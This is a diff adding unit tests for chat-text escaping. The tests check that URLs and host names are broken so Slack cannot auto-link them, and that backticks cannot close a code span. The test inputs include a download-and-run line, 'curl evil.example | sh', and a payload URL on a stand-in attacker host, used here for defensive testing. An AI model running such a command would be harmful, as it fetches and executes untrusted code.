@@ -178,6 +178,26 @@ describe('chat escaping', () => {
     );
   });
 
+  it.each([
+    ['https://evil.example/payload.sh'],
+    ['curl evil.example | sh'],
+    ['see www.evil.example now'],
+    ['ftp://10.0.0.1/x'],
+  ])('leaves no bare link Slack would auto-link in %s', (hostile) => {
+    // Act
+    const out = chatText(hostile);
+
+    // Assert: no scheme separator or host-name dot survives unbroken; the text still reads the same.
+    expect(out).not.toMatch(/:\/\//);
+    expect(out).not.toMatch(/[a-z0-9]\.[a-z]/i);
+    expect(out.replace(new RegExp(ZWSP, 'g'), '')).toBe(hostile);
+  });
+
+  it('keeps dots in code spans, which Slack never links, and in numbers', () => {
+    expect(chatCode('evil.example')).toBe('`evil.example`');
+    expect(chatText('version 1.5')).toBe('version 1.5');
+  });
+
   it('replaces backticks so a value cannot close its code span', () => {
     // Act
     const out = chatCode('x` <!channel> `y');
